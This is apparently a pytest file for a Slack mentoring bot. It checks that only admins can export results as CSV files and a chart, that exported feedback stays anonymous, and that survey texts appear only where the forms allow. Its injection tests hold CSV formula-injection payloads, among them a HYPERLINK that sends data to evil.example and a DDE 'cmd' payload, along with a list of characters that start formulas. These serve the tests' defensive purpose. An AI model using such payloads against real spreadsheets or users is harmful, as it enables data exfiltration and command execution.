"""The admins' *Results* on Home, and its *Export CSV* and *Chart* buttons (signed requests through the real app,
files_upload_v2 against the fake Web API, both databases): admins only, the exports name no one in the feedback
text and carry no rating, hold only what the forms tell people admins see, from groups of 3 or more, and no cell a
spreadsheet would run; the chart is a real PNG, and ending a program sends its chart and summary."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from sqlmodel import select, update

from bot import results
from bot.runtime.cli import emit_report
from prompts import feedback as fb
from storage import programs as programs_repo
from storage.db import Database
from storage.models import Feedback, Pair, Program, SurveyAnswer
from tests.support.programs import programs
from tests.support.results import TODAY, seed, seed_surveys
from tests.support.signed import SlackSender

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "|", "%", "＝", "＋", "－", "＠")  # a formula (OWASP, defusedcsv)


async def results_home(slack: SlackSender) -> str:
    slack.fake.add_user("UADMIN", is_admin=True)
    await slack.event({"type": "app_home_opened", "user": "UADMIN", "tab": "home"})
    homes = await slack.fake.wait_for("views.publish", where=lambda c: "results_export" in json.dumps(c["view"]))
    return json.dumps(homes[-1]["view"])


async def test_admins_export_csvs_and_a_chart_by_dm(slack: SlackSender, db: Database, team_id: str) -> None:
    await seed(db, team_id)
    current = (await programs(db, team_id))["Digital skills 2027"]
    home = await results_home(slack)
    assert "*Results" in home and f'"value": "{current.id}"' in home

    status, _ = await slack.click("results_export", user_id="UADMIN", container="view", value=str(current.id))
    assert status == 200
    await slack.fake.wait_for("files.completeUploadExternal")
    files = {u["filename"]: u for u in slack.fake.uploads.values()}
    assert set(files) == {"pairs-and-meetings.csv", "feedback-text.csv"}
    assert all(u["channel_id"] == slack.fake.dm_channel_id("UADMIN") for u in files.values())
    pairs = list(csv.reader(io.StringIO(files["pairs-and-meetings.csv"]["content"].decode())))
    assert pairs[0][:4] == ["pair", "reverse_mentor", "mentee", "pair_state"]
    assert len(pairs) == 1 + 7 + 1, "a row per check-in answer, one for the pair without answers"
    text = files["feedback-text.csv"]["content"].decode()
    assert text.splitlines()[0] == "kind,text", "one text per row: nothing ties two texts of one person"
    assert "private words" in text, "what 3 mentees learned"
    assert "private note" not in text, "notes are for partners, never for admins"
    for leak in ("UE1", "UM1", "mentee", "mentor", ",5", ",4"):
        assert leak not in text, "anonymous: no name, side or rating"

    await slack.click("results_chart", user_id="UADMIN", container="view", value=str(current.id))
    await slack.fake.wait_for("files.completeUploadExternal", 2)
    [chart] = [u for u in slack.fake.uploads.values() if u["filename"] == "chart.png"]
    png = chart["content"]
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and 5_000 < len(png) < 2_000_000
    [summary] = [
        c for c in slack.fake.calls_to("chat.postMessage") if c["channel"] == "UADMIN" and "pairs," in c["text"]
    ]
    assert "Digital skills 2027" in summary["text"] and "meetings" in summary["text"], "a short written summary"


async def test_results_are_for_admins_only(slack: SlackSender, db: Database, team_id: str) -> None:
    await seed(db, team_id)
    current = (await programs(db, team_id))["Digital skills 2027"]
    slack.fake.add_user("UE1")
    await slack.click("results_export", user_id="UE1", container="view", value=str(current.id))
    await slack.fake.wait_for("chat.postMessage", where=lambda c: c["channel"] == "UE1")
    assert slack.fake.uploads == {}
    await slack.event({"type": "app_home_opened", "user": "UE1", "tab": "home"})
    mine = await slack.fake.wait_for("views.publish", where=lambda c: c["user_id"] == "UE1")
    assert "Results" not in json.dumps(mine[-1]["view"])


async def test_ending_a_program_sends_its_chart_and_summary(slack: SlackSender, db: Database, team_id: str) -> None:
    await seed(db, team_id)
    current = (await programs(db, team_id))["Digital skills 2027"]
    slack.fake.add_user("UADMIN", is_admin=True)
    value = f"{current.id}:running:ended"
    await slack.click("end_program", user_id="UADMIN", container="view", value=value)
    await slack.fake.wait_for("files.completeUploadExternal")
    [chart] = list(slack.fake.uploads.values())
    assert chart["filename"] == "chart.png"
    assert any("(ended)" in c["text"] for c in slack.fake.calls_to("chat.postMessage") if c["channel"] == "UADMIN")


def feedback_values(*, topic: str, learned: str, note: str = "", share: bool = False) -> dict[str, Any]:
    """The feedback form's ``state.values`` as Slack sends them (rating 4)."""
    picked = {"text": {"type": "plain_text", "text": "4"}, "value": "4"}
    ticked = [{"text": {"type": "plain_text", "text": "Share"}, "value": "share"}] if share else []
    return {
        fb.RATING: {fb.RATING: {"type": "static_select", "selected_option": picked}},
        fb.TOPIC: {fb.TOPIC: {"type": "plain_text_input", "value": topic}},
        fb.LEARNED: {fb.LEARNED: {"type": "plain_text_input", "value": learned}},
        fb.NOTE: {fb.NOTE: {"type": "plain_text_input", "value": note}},
        fb.SHARE: {fb.SHARE: {"type": "checkboxes", "selected_options": ticked}},
    }


async def give_feedback(
    slack: SlackSender,
    db: Database,
    team_id: str,
    author: str,
    *,
    topic: str,
    learned: str,
    period: int = 1,
    **note: Any,
) -> None:
    """``author`` (UM<i> or UE<i> of the seeded program) submits the feedback form on their pair's meeting at
    check-in ``period`` (pairs 1–3 met at check-in 1, pairs 1 and 2 at check-in 2 too), through a signed request;
    waits until it is saved."""
    async with db.read() as session:
        [pair] = (
            await session.exec(
                select(Pair).where(
                    Pair.team_id == team_id,
                    Pair.state == "active",
                    (Pair.mentor_id == author) | (Pair.mentee_id == author),
                )
            )
        ).all()
    partner = pair.mentee_id if author == pair.mentor_id else pair.mentor_id
    role = "mentor" if author == pair.mentor_id else "mentee"
    form = fb.feedback_modal(pair_id=pair.id or 0, period=period, partner_id=partner, role=role, topic="")
    status, _ = await slack.submit_view(form, feedback_values(topic=topic, learned=learned, **note), user_id=author)
    assert status == 200
    for _ in range(100):
        async with db.read() as session:
            saved = (
                await session.exec(
                    select(Feedback.learned).where(
                        Feedback.team_id == team_id, Feedback.author_id == author, Feedback.period == period
                    )
                )
            ).first()
        if saved == learned.strip():
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"{author}'s feedback was not saved")


async def export(slack: SlackSender, program_id: int) -> dict[str, list[list[str]]]:
    """*Export CSV* clicked by an admin: each file's rows, as a spreadsheet would read them."""
    slack.fake.add_user("UADMIN", is_admin=True)
    before = len(slack.fake.calls_to("files.completeUploadExternal"))
    await slack.click("results_export", user_id="UADMIN", container="view", value=str(program_id))
    await slack.fake.wait_for("files.completeUploadExternal", before + 1)
    uploads = list(slack.fake.uploads.values())[-2:]
    return {u["filename"]: list(csv.reader(io.StringIO(u["content"].decode(), newline=""))) for u in uploads}


PAYLOADS = {  # typed in the feedback form as what they learned or taught
    "UE1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "UE2": "+cmd|' /C calc'!A0",
    "UE3": "@SUM(1+1)",
    "UM1": "-2+3",
    "UM2": "\t=1",
    "UM3": "\r=1",
}
AFTER_A_SEPARATOR = {"UE2": "x;=1+1", "UM1": "y,@SUM(1+1)"}  # at check-in 2: 2 cells where Excel splits on ; or ,


def runs_in_some_locale(text: str) -> list[str]:
    """Every cell a mismatched locale could make of a CSV file (each line split on ``;``, ``,`` or a tab, quotes
    and blanks trimmed) that a spreadsheet would run."""
    lines = re.split(r"\r\n|\r|\n", text)
    parts = [part.lstrip(' "') for sep in (";", ",", "\t") for line in lines for part in line.split(sep)]
    return [part for part in parts if part.startswith(DANGEROUS) and not re.fullmatch(r"-\d[\d,]*(\.\d+)?%?", part)]


async def test_no_exported_cell_runs_in_a_spreadsheet(slack: SlackSender, db: Database, team_id: str) -> None:
    await seed(db, team_id)
    current = (await programs(db, team_id))["Digital skills 2027"]
    for author, payload in PAYLOADS.items():
        await give_feedback(slack, db, team_id, author, topic="@SUM(1+1)", learned=payload)
    for author, payload in AFTER_A_SEPARATOR.items():
        await give_feedback(slack, db, team_id, author, topic="", learned=payload, period=2)

    files = await export(slack, current.id or 0)
    cells = [cell for rows in files.values() for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)], "no cell a spreadsheet would run"
    texts = {row[1] for row in files["feedback-text.csv"][1:]} - {"private words"}  # seeded, at check-in 2
    assert texts == {"'" + payload.strip() for payload in PAYLOADS.values()} | {"x;'=1+1", "y,'@SUM(1+1)"}, (
        "each text as typed, a ' before each formula"
    )
    for upload in list(slack.fake.uploads.values())[-2:]:
        assert not runs_in_some_locale(upload["content"].decode()), "nor in a locale splitting on ; (de, fr, nl)"


async def test_no_cell_of_report_format_csv_runs_in_a_spreadsheet(
    slack: SlackSender, db: Database, team_id: str, tmp_path: Path
) -> None:
    """``report --format csv``: the program's name is an admin's, the topics are what people typed."""
    await seed(db, team_id)
    current = (await programs(db, team_id))["Digital skills 2027"]
    for author in ("UE1", "UE2", "UE3"):  # 3 people name the topic: it is among the most discussed
        await give_feedback(slack, db, team_id, author, topic="@SUM(1+1)", learned="")
    async with db.session() as session:
        await session.exec(update(Program).where(Program.id == current.id).values(name="=1+1"))  # type: ignore[arg-type]
    async with db.read() as session:
        found = await results.report(
            session,
            team_id=team_id,
            programs=list(await programs_repo.list_programs(session, team_id=team_id)),
            name="=1+1",
            today=TODAY,
        )
    assert emit_report(found, "=1+1", "csv", str(tmp_path)) == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8"), newline="")))
    assert rows[0] == ["figure", "'=1+1", "Pilot"]
    assert ["Topic #1 (people)", "'@sum(1+1) (3)", "–"] in rows
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


async def test_the_free_text_export_holds_only_what_the_forms_promise(
    slack: SlackSender, db: Database, team_id: str
) -> None:
    """Seeded: UE1–UE3 (3 mentees) wrote "private words" and a "private note"; UM1 and UM2 (2 mentors) too."""
    await seed(db, team_id)
    await seed_surveys(db, team_id)  # 4 people answered what they would change half-way
    current = (await programs(db, team_id))["Digital skills 2027"]
    async with db.session() as session:  # only 2 people answered the end survey
        session.add_all(
            SurveyAnswer(
                team_id=team_id, program_id=current.id or 0, user_id=u, stage="end", recommend=9, change="end words"
            )
            for u in ("UE1", "UE2")
        )
    await give_feedback(slack, db, team_id, "UM1", topic="", learned="mentor one", note="kept note")
    await give_feedback(slack, db, team_id, "UM2", topic="", learned="mentor two", note="shared note", share=True)
    await slack.fake.wait_for("chat.postMessage", where=lambda c: "shared note" in c["text"])  # to UE2 only

    files = await export(slack, current.id or 0)
    text = [row for row in files["feedback-text.csv"]]
    assert text[0] == ["kind", "text"]
    assert sorted(map(tuple, text[1:])) == [
        *[("learned_or_taught", "private words")] * 5,  # the 3 mentees' feedback on 5 meetings
        *[("what_to_change", "private change")] * 4,  # half-way
    ], "no note, shared or not; nothing from the 2 mentors, nor from the end survey's 2 people"
    everything = json.dumps(files)
    for hidden in ("private note", "kept note", "shared note", "mentor one", "mentor two", "end words"):
        assert hidden not in everything

    await give_feedback(slack, db, team_id, "UM3", topic="", learned="mentor three")  # a third mentor writes
    files = await export(slack, current.id or 0)
    learned = sorted(row[1] for row in files["feedback-text.csv"][1:] if row[0] == "learned_or_taught")
    assert learned == ["mentor one", "mentor three", "mentor two", *["private words"] * 5]
    assert "note" not in json.dumps(files)


async def test_survey_texts_given_before_the_form_said_admins_read_them_are_never_exported(
    slack: SlackSender, db: Database, team_id: str
) -> None:
    """The survey form once promised "only totals and averages": what those answers would change stays unread."""
    await seed(db, team_id)
    await seed_surveys(db, team_id)  # 4 people answered half-way on today's form
    current = (await programs(db, team_id))["Digital skills 2027"]
    async with db.session() as session:  # 3 people answered the end survey on the old form (as migration 0011 left)
        session.add_all(
            SurveyAnswer(
                team_id=team_id, program_id=current.id or 0, user_id=u, stage="end", recommend=9, change="old words"
            )
            for u in ("UE1", "UE2", "UE3")
        )
    files = await export(slack, current.id or 0)
    changes = [row[1] for row in files["feedback-text.csv"][1:] if row[0] == "what_to_change"]
    assert changes == ["private change"] * 4
    assert "old words" not in json.dumps(files)
